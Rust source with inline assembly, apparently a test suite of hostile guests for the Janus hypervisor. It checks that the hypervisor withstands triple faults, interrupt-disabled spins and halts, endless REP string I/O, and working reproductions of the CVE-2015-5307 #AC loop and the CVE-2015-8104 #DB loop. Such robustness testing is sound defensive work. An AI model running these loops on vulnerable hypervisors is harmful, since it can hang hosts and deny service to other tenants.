//! Attacks that end the guest or never end: a triple fault, HLT and spinning with
//! interrupts off, the #AC loop of CVE-2015-5307, the #DB loop of CVE-2015-8104 and
//! endless REP OUTSB/INSB. Janus ends the endless ones with its per-guest time limit.

use super::{Ctx, Saw};
use core::arch::{asm, global_asm};
use janus_guests::rt::pc::COM1;
use janus_guests::rt::x86::{read_cr0, write_cr0};
use janus_guests::rt::{dr, user};

/// A port nothing claims (reads all ones under Janus).
const UNCLAIMED_PORT: u16 = 0x300;

/// IDT limit 0, then INT3: the #BP gate is past the limit (#GP), so is #GP's (#DF), so
/// is #DF's: shutdown (SDM Vol 3A 6.15, interrupt 8).
pub fn triple_fault(_: &Ctx) -> Saw {
    let idtr = [0u64; 2];
    // SAFETY: the attack: loads an empty IDT and breaks; nothing runs after it.
    unsafe { asm!("lidt [{}]", "int3", in(reg) idtr.as_ptr(), options(noreturn)) }
}

/// CLI; HLT: nothing can wake the CPU.
pub fn cli_hlt(_: &Ctx) -> Saw {
    // SAFETY: the attack: stops the CPU for good.
    unsafe { asm!("cli", "2: hlt", "jmp 2b", options(noreturn, nomem, nostack)) }
}

/// CLI; JMP $: a CPU that never exits on its own.
pub fn cli_spin(_: &Ctx) -> Saw {
    // SAFETY: the attack: spins for good.
    unsafe { asm!("cli", "2: jmp 2b", options(noreturn, nomem, nostack)) }
}

/// Spins with interrupts on (and nothing programmed to interrupt it): only the host's
/// timer makes it exit.
pub fn spin(_: &Ctx) -> Saw {
    // SAFETY: the attack: spins for good.
    unsafe { asm!("sti", "2: jmp 2b", options(noreturn, nomem, nostack)) }
}

/// Spins on CPUID with interrupts off. Where the CPU gives the next RIP (VT-x, AMD-V
/// with NRIP save) Janus answers every one of them in its backend's entry loop
/// (`vmm_core::in_place`), never in the dispatcher: only the host's timer or the
/// VMX-preemption timer makes it leave, at the end of its slice and its time limit.
pub fn cpuid_spin(_: &Ctx) -> Saw {
    // SAFETY: the attack: spins for good (CPUID's registers are never used again).
    unsafe {
        asm!(
            "cli",
            "2: xor eax, eax",
            "xor ecx, ecx",
            "cpuid",
            "jmp 2b",
            options(noreturn, nomem, nostack)
        )
    }
}

/// COM1's scratch register: a device register whose accesses change nothing Janus follows.
const COM1_SCR: u16 = COM1 + 7;

/// Spins on OUT and IN of COM1's scratch register with interrupts off. Janus makes every
/// one of them in its backend's entry loop (`vmm_core::in_place::port_io`; on AMD-V
/// without leaving the world switch, GIF clear between them): only the host's timer or
/// the VMX-preemption timer makes it leave, at the end of its slice and its time limit.
pub fn port_spin(_: &Ctx) -> Saw {
    // SAFETY: the attack: spins for good on a register nothing else uses.
    unsafe {
        asm!(
            "cli",
            "2: mov al, 0x5a",
            "out dx, al",
            "in al, dx",
            "jmp 2b",
            in("dx") COM1_SCR,
            options(noreturn, nomem, nostack)
        )
    }
}

#[repr(C, align(16))]
struct Stack([u8; 16 * 1024]);

static mut USER_STACK: Stack = Stack([0; 16 * 1024]);
static mut FAULT_STACK: Stack = Stack([0; 16 * 1024]);

fn top(s: *const Stack) -> u64 {
    s as u64 + core::mem::size_of::<Stack>() as u64
}

const CR0_AM: u64 = 1 << 18;
const RFLAGS_AC: u64 = 1 << 18;
const RFLAGS_FIXED: u64 = 1 << 1;

// The #AC loop at CPL 3. The #AC gate points back at `hostile_ac_loop` through the user
// code segment (no privilege change), on an IST stack whose top is misaligned. 64-bit
// mode aligns RSP to 16 before pushing the frame (SDM Vol 3A 6.14.2), so the loop is
// kept going by the handler itself: it resets the stack, sets EFLAGS.AC again and
// repeats the misaligned load, which raises #AC again, forever.
global_asm!(
    r#"
    .section .text.hostile_ac, "ax"
    .global hostile_ac_loop
hostile_ac_loop:
    mov rsp, [rip + {stack}]
    pushfq
    or dword ptr [rsp], 0x40000
    popfq
    mov eax, dword ptr [rsp - 13]
    jmp hostile_ac_loop
    .text
"#,
    stack = sym AC_STACK_TOP,
);

static mut AC_STACK_TOP: u64 = 0;

extern "C" {
    fn hostile_ac_loop();
    fn hostile_db_return();
}

/// CVE-2015-5307: CR0.AM, EFLAGS.AC, CPL 3, a misaligned load, and an #AC handler that
/// faults the same way.
pub fn ac_loop(_: &Ctx) -> Saw {
    user::install();
    let user_top = top(core::ptr::addr_of!(USER_STACK));
    // SAFETY: a plain store read by the loop above; nothing else uses it.
    unsafe { *core::ptr::addr_of_mut!(AC_STACK_TOP) = user_top };
    user::set_ist(1, top(core::ptr::addr_of!(FAULT_STACK)) - 3);
    user::set_gate(17, hostile_ac_loop as *const () as u64, user::USER_CS, 3, 1);
    write_cr0(read_cr0() | CR0_AM);
    let e = user::run(
        hostile_ac_loop as *const () as u64,
        user_top,
        RFLAGS_FIXED | RFLAGS_AC,
    );
    e.map_or(Saw::NoFault, |e| Saw::Fault(e.vector))
}

// The #DB handler of the #DB loop: return at once (the breakpoints stay armed).
global_asm!(
    r#"
    .section .text.hostile_db, "ax"
    .global hostile_db_return
hostile_db_return:
    iretq
    .text
"#
);

/// DR7 enable bits: L0, L1; R/W and LEN fields of DR0 (bits 16-19) and DR1 (20-23)
/// (SDM Vol 3B 18.2.4). R/W 11b = data read or write, 01b = data write; LEN 10b = 8 bytes.
const DR7_L0: u64 = 1 << 0;
const DR7_L1: u64 = 1 << 2;
const DR0_RW_8: u64 = (0b11 << 16) | (0b10 << 18);
const DR1_W_8: u64 = (0b01 << 20) | (0b10 << 22);

/// CVE-2015-8104: data breakpoints on the IDT's #DB gate (DR0) and on the top of the
/// stack #DB is delivered on (DR1), so that each #DB delivery touches a watched address;
/// then a loop that reads the gate, which keeps raising #DB.
pub fn db_loop(_: &Ctx) -> Saw {
    user::install();
    let stack = top(core::ptr::addr_of!(FAULT_STACK));
    user::set_ist(2, stack);
    user::set_gate(
        1,
        hostile_db_return as *const () as u64,
        user::KERNEL_CS,
        0,
        2,
    );
    let mut idtr = [0u8; 10];
    // SAFETY: SIDT writes 10 bytes into `idtr`.
    unsafe { asm!("sidt [{}]", in(reg) idtr.as_mut_ptr(), options(nostack)) };
    let gate = u64::from_le_bytes(idtr[2..10].try_into().unwrap_or_default()) + 16;
    dr::write_dr0(gate);
    dr::write_dr1(stack - 8);
    dr::write_dr7(dr::DR7_RESET | DR7_L0 | DR7_L1 | DR0_RW_8 | DR1_W_8);
    // SAFETY: the attack: reads the watched gate forever; every read raises #DB, whose
    // handler returns.
    unsafe { asm!("2: mov rax, [{}]", "jmp 2b", in(reg) gate, options(noreturn, nostack)) }
}

/// How much of the free RAM [`fill_text`] fills: more than the string loops reach before
/// their time limit (EPYC: 95 exits of 128 bytes), and short to fill. The whole free RAM
/// (15 MiB) took about 2 s of emulated time on Bochs with interrupts off, which on
/// Bochs' AMD-V, whose SVM holds the host's timer while the guest's IF is clear, kept
/// the guests beside it from the CPU past their own time limits.
const TEXT_BYTES: u64 = 256 << 10;

/// Fills the start of the guest's free RAM with '.' so string output is readable text.
fn fill_text(c: &Ctx) {
    for a in c.image_end..c.ram_end.min(c.image_end + TEXT_BYTES) {
        // SAFETY: free RAM after the image: nothing else uses it.
        unsafe { (a as *mut u8).write_volatile(b'.') };
    }
}

/// REP OUTSB with RCX = 2^64 - 1 from the guest's free RAM onwards.
fn rep_outsb(c: &Ctx, port: u16) -> Saw {
    fill_text(c);
    // SAFETY: the attack: reads from the free RAM onwards (past the end of RAM if it
    // ever gets there) and never ends; no register of ours is needed afterwards.
    unsafe {
        asm!("rep outsb", "2: jmp 2b", in("rsi") c.image_end, in("rcx") u64::MAX,
             in("dx") port, options(noreturn, nostack))
    }
}

/// REP INSB with RCX = 2^64 - 1 into the guest's free RAM onwards.
fn rep_insb(c: &Ctx, port: u16) -> Saw {
    // SAFETY: the attack: overwrites the free RAM after the image (and whatever lies
    // past the end of RAM) and never ends.
    unsafe {
        asm!("rep insb", "2: jmp 2b", in("rdi") c.image_end, in("rcx") u64::MAX,
             in("dx") port, options(noreturn, nostack))
    }
}

pub fn rep_outsb_com1(c: &Ctx) -> Saw {
    rep_outsb(c, COM1)
}

pub fn rep_insb_com1(c: &Ctx) -> Saw {
    rep_insb(c, COM1)
}

pub fn rep_outsb_unclaimed(c: &Ctx) -> Saw {
    rep_outsb(c, UNCLAIMED_PORT)
}

pub fn rep_insb_unclaimed(c: &Ctx) -> Saw {
    rep_insb(c, UNCLAIMED_PORT)
}
